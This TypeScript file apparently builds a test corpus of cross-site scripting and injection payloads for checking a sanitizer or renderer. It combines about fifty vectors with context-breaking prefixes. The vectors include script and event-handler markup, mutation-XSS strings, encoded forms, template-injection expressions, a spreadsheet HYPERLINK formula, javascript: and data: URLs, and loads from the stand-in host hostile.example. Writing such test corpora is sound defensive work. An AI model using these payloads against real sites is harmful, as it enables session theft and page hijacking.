/**
 * Texts that try to become more than text. Each has a number: executed ones call `hostile(number)`, loaded ones request it
 * from `hostile.example`.
 */
type Payload = (number: number) => string

const run = (at: number) => `hostile(${at})`
const from = (at: number) => `//hostile.example/${at}`

/** Markup that runs or loads when parsed. */
const vectors: readonly Payload[] = [
  (at) => `<script>${run(at)}</script>`,
  (at) => `<script src="${from(at)}.js"></script>`,
  (at) => `<img src=x onerror=${run(at)}>`,
  (at) => `<img src="${from(at)}.png">`,
  (at) => `<svg onload=${run(at)}>`,
  (at) => `<svg><script href="data:text/javascript,${run(at)}"/></svg>`,
  (at) =>
    `<svg><animate xlink:href=#x attributeName=href values="javascript:${run(at)}"/><a id=x><text>x</text></a>`,
  (at) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run(at)}>#x"/></svg>`,
  (at) => `<iframe srcdoc="<script>parent.${run(at)}</script>"></iframe>`,
  (at) => `<iframe src="javascript:parent.${run(at)}"></iframe>`,
  (at) => `<object data="${from(at)}"></object><embed src="${from(at)}">`,
  (at) => `<details open ontoggle=${run(at)}><summary>x</summary></details>`,
  (at) => `<input autofocus onfocus=${run(at)}>`,
  (at) => `<a href="javascript:${run(at)}" autofocus>x</a>`,
  (at) => `<form action="javascript:${run(at)}"><button>x</button></form>`,
  (at) => `<base href="${from(at)}/"><link rel=stylesheet href="${from(at)}.css">`,
  (at) => `<meta http-equiv=refresh content="0;url=${from(at)}">`,
  (at) => `<style>@import "${from(at)}.css"; *{background:url(${from(at)})}</style>`,
  (at) => `<div style="background:url(${from(at)})">x</div>`,
  (at) => `<video><source onerror=${run(at)}></video><audio src=x onerror=${run(at)}>`,
  (at) => `<template shadowrootmode=open><script>${run(at)}</script></template>`,
  // Texts whose meaning changes between two parsings.
  (at) => `<noscript><p title="</noscript><img src=x onerror=${run(at)}>">`,
  (at) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(at)}&gt;">`,
  (at) => `<svg></p><style><a id="</style><img src=x onerror=${run(at)}>">`,
  (at) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run(at)}>">`,
  (at) => `<select><template><option><img src=x onerror=${run(at)}></template></select>`,
  (at) => `<xmp><p title="</xmp><img src=x onerror=${run(at)}>">`,
  (at) => `&lt;img src=x onerror=${run(at)}&gt;`,
  (at) => `\\u003cimg src=x onerror=${run(at)}\\u003e`,
  (at) => `%3Cimg%20src=x%20onerror=${run(at)}%3E`,
  (at) => `＜script＞${run(at)}＜/script＞`,
  (at) => `<scr\u0000ipt>${run(at)}</scr\u0000ipt>`,
  // Templates, expressions, formats of other programs.
  (at) => `\${${run(at)}}`,
  (at) => `{{constructor.constructor("${run(at)}")()}}`,
  (at) => `{${run(at)}, plural, one {<b>#</b>} other {<img src=x onerror=${run(at)}>}}`,
  (at) => `<%= ${run(at)} %>[[${run(at)}]]#{${run(at)}}`,
  (at) => `=HYPERLINK("http:${from(at)}";"x")`,
  (at) => `[x](javascript:${run(at)}) ![x](http:${from(at)})`,
  // URLs.
  (at) => `javascript:${run(at)}//`,
  (at) => `JaVa\tScRiPt:${run(at)}`,
  (at) => `\u0001javascript:${run(at)}`,
  (at) => `data:text/html,<script>${run(at)}</script>`,
  (at) => `data:text/html;base64,${btoa(`<script>${run(at)}</script>`)}`,
  (at) => `blob:https://hostile.example/${at}`,
  (at) => `filesystem:https://hostile.example/${at}`,
  (at) => `chrome-extension://hostile/${at}`,
  (at) => `//hostile.example/${at}`,
  (at) => `https://user:hostile@hostile.example/${at}`,
  (at) => `__proto__`.padEnd(9 + (at % 2), '.'),
  (at) => `constructor.prototype.hostile${at}`,
]

/** Prefixes that break out of a context. */
const breakers: readonly string[] = [
  '',
  '">',
  "'>",
  '" autofocus onfocus=hostile(0) x="',
  '`}',
  '</title></textarea></style></script>',
  '-->',
  ']]>',
  '\u202e\u2066',
  '\ud800',
  'Ada Lovelace \u200b',
]

/** All of them, each once. */
export const payloads: readonly string[] = breakers.flatMap((breaker, row) =>
  vectors.map((vector, at) => breaker + vector(row * vectors.length + at)),
)
